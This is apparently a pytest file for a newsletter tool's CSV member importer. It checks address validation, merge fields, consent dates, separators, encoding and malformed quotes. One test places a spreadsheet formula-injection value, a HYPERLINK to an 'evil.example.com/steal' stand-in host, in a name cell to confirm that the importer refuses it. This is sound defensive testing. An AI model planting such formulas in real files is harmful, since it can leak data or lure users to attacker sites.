"""Reading a members CSV row by row: addresses, the organisation's merge field, consent."""

from pathlib import Path

import pytest
from support.audiences import audience, write_csv

from bulletin.audiences.members_csv import Contact, ContactsFile, Invalid
from bulletin.document.audiences import Audience, MergeField
from bulletin.errors import ContentError


def rows(path: Path, reader: Audience) -> list[Contact | Invalid]:
    return list(ContactsFile(path, reader).rows())


def test_addresses_beyond_plain_ascii_are_read_and_broken_ones_refused(root: Path):
    path = write_csv(
        root / "members.csv",
        [
            [email, "", "", "", "", "yes"]
            for email in ("jo@example.org", "zoë@exämple.org", "not-an-email", "a@@b.org", "")
        ],
    )
    found = rows(path, audience(root))
    assert [(r.line, r.email if isinstance(r, Contact) else r.message) for r in found] == [
        (2, "jo@example.org"),
        (3, "zoë@exämple.org"),
        (4, "not a valid e-mail address ('not-an-email')"),
        (5, "not a valid e-mail address ('a@@b.org')"),
        (6, "no e-mail address"),
    ]


def test_the_organisation_goes_to_the_audiences_own_field_for_it(root: Path):
    """Named by its tag ORG, or by a name such as Company: whichever the audience has."""
    path = write_csv(root / "members.csv", [["jo@example.org", "Jo", "", "Acme", "", "yes"]])
    partners = audience(root)
    by_name = partners.model_copy(
        update={"merge_fields": [MergeField(tag="EMPLOYER", name="Company")]}
    )
    by_tag_only = partners.model_copy(
        update={"merge_fields": [MergeField(tag="ORG", name="Partner body")]}
    )
    (by_tag,) = rows(path, by_tag_only)
    (named,) = rows(path, by_name)
    assert isinstance(by_tag, Contact) and isinstance(named, Contact)
    assert by_tag.merge_fields == {"FNAME": "Jo", "ORG": "Acme"}
    assert named.merge_fields == {"FNAME": "Jo", "EMPLOYER": "Acme"}


def test_a_file_without_name_columns_sends_no_names(root: Path):
    path = write_csv(root / "members.csv", [["jo@example.org", "yes"]], header=["Email", "Consent"])
    (contact,) = rows(path, audience(root))
    assert isinstance(contact, Contact) and contact.merge_fields == {}


def test_consent_given_as_a_date_in_any_of_the_usual_forms(root: Path):
    dates = ["2020-11-02", "02/11/2020", "02/11/20", "02.11.2020", "soon"]
    path = write_csv(
        root / "members.csv",
        [[f"p{i}@example.org", date] for i, date in enumerate(dates)],
        header=["Email", "Consent"],
    )
    found = rows(path, audience(root))
    assert [r.consent if isinstance(r, Contact) else r.message for r in found] == [
        True,
        True,
        True,
        True,
        "consent: write yes, no or the date it was given ('soon')",
    ]


def test_a_formula_is_named_by_its_first_thirty_characters(root: Path):
    formula = '=HYPERLINK("https://evil.example.com/steal?x=1","Click")'
    path = write_csv(
        root / "members.csv",
        [["jo@example.org", formula, "yes"]],
        header=["Email", "First name", "Consent"],
    )
    (refused,) = rows(path, audience(root))
    assert isinstance(refused, Invalid)
    assert refused.message == (
        "first name: starts with '=', which a spreadsheet runs as a formula "
        f"({formula[:30]!r}): not imported; remove the '='"
    )


def test_a_spreadsheets_byte_order_mark_is_not_part_of_the_first_column(root: Path):
    path = root / "members.csv"
    path.write_text("\ufeffEmail,Consent\njo@example.org,yes\n", encoding="utf-8")
    (contact,) = rows(path, audience(root))
    assert isinstance(contact, Contact) and contact.email == "jo@example.org"


def test_a_header_that_is_not_csv_is_an_error_at_line_1(root: Path):
    path = root / "members.csv"
    path.write_bytes(b'Email,"' + b"x" * 140_000 + b'"\njo@example.org,yes\n')  # over csv's limit
    with pytest.raises(ContentError) as info:
        rows(path, audience(root))
    (problem,) = info.value.problems
    assert (Path(problem.file).name, problem.line) == ("members.csv", 1)
    assert problem.message.startswith("not CSV: ")


def test_a_file_with_no_email_column_is_refused_by_name(root: Path):
    """Without a column of addresses no row can be read: the error says what the header needs."""
    path = write_csv(root / "members.csv", [["Jo", "yes"]], header=["Name", "Consent"])
    with pytest.raises(ContentError) as info:
        rows(path, audience(root))
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.message) == (
        str(path),
        1,
        "no email column: the first row must name the columns",
    )


def test_progress_is_told_every_byte_read(root: Path):
    path = write_csv(
        root / "members.csv",
        [[f"p{i}@example.org", "yes"] for i in range(3_000)],
        header=["Email", "Consent"],
    )
    told: list[int] = []
    found = list(ContactsFile(path, audience(root), progress=told.append).rows())
    assert len(found) == 3_000
    assert sum(told) == path.stat().st_size


def test_an_empty_file_is_said_to_be_empty(root: Path):
    path = root / "members.csv"
    path.write_bytes(b"")
    with pytest.raises(ContentError) as info:
        rows(path, audience(root))
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.message) == (str(path), 1, "the file is empty")


def test_a_quoted_cell_after_a_space_keeps_its_comma(root: Path):
    """Spreadsheets and people write `a, "Smith, Jo"`: the quotes still hold the comma."""
    path = root / "members.csv"
    path.write_text(
        'Email, Last name, Consent\njo@example.org, "Smith, Jo", yes\n', encoding="utf-8"
    )
    (contact,) = rows(path, audience(root))
    assert isinstance(contact, Contact) and contact.merge_fields == {"LNAME": "Smith, Jo"}


def test_an_organisation_column_needs_the_audiences_field_for_it(root: Path):
    path = write_csv(
        root / "members.csv",
        [["jo@example.org", "Acme", "yes"]],
        header=["Email", "Organisation", "Consent"],
    )
    without = audience(root).model_copy(update={"merge_fields": []})
    with pytest.raises(ContentError) as info:
        rows(path, without)
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.message) == (
        str(path),
        1,
        "audience partners has no merge field for the organisation: add {tag: ORG, name: "
        "Organisation} to its merge_fields in audiences.yaml and run `bulletin audiences sync`",
    )


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_file_separated_by_semicolons_or_tabs_is_read(root: Path, separator: str):
    path = root / "members.csv"
    path.write_text(
        separator.join(["Email", "First name", "Consent"])
        + "\n"
        + separator.join(["jo@example.org", "Jo, Sam", "yes"])
        + "\n",
        encoding="utf-8",
    )
    (contact,) = rows(path, audience(root))
    assert isinstance(contact, Contact) and contact.merge_fields == {"FNAME": "Jo, Sam"}


@pytest.mark.parametrize(
    "cell", ['"Sam\nJones, Al\n', '"Sam\nal@example.org\n'], ids=["comma", "address"]
)
def test_a_quote_never_closed_is_refused_with_its_lines(root: Path, cell: str):
    """A cell across lines holding a comma, or an address, is a quote gone astray."""
    path = root / "members.csv"
    path.write_text(f"Email,First name,Consent\njo@example.org,{cell}", encoding="utf-8")
    (refused,) = rows(path, audience(root))
    assert refused == Invalid(
        2,
        'a quote (") in this row is never closed, so lines 2 to 3 were read as one cell: none '
        "of them was imported; close the quote (or take it out) and import the file again",
    )


def test_bytes_that_are_not_utf8_stop_the_read_at_their_line(root: Path):
    path = root / "members.csv"
    path.write_bytes(b"Email,Consent\njo@example.org,yes\nbad\xff@example.org,yes\n")
    found = ContactsFile(path, audience(root)).rows()
    assert isinstance(next(found), Contact)
    with pytest.raises(ContentError) as info:
        next(found)
    (problem,) = info.value.problems
    assert (problem.line, problem.message) == (3, "not UTF-8 text: save it as 'CSV UTF-8'")


def test_a_line_is_read_up_to_a_million_bytes_and_refused_beyond(root: Path):
    from bulletin.audiences.members_csv import MAX_LINE

    path = root / "members.csv"
    head = b"Email,Consent\n"
    longest = b"jo@example.org," + b"x," * ((MAX_LINE - 17) // 2) + b"\n"
    longest = longest[:-1] + b"y" * (MAX_LINE - len(longest)) + b"\n"
    assert len(longest) == MAX_LINE
    path.write_bytes(head + longest)
    (shifted,) = rows(path, audience(root))  # read whole: too many cells, refused as a row
    assert isinstance(shifted, Invalid) and shifted.message.endswith(
        " cells where the header names 2: a comma inside a name needs quotes around the cell; "
        "not imported"
    )
    path.write_bytes(head + longest[:-1] + b"x\n")
    with pytest.raises(ContentError) as info:
        rows(path, audience(root))
    (problem,) = info.value.problems
    assert (problem.line, problem.message) == (
        2,
        "a line of over 1,000,000 bytes: this is no members list",
    )
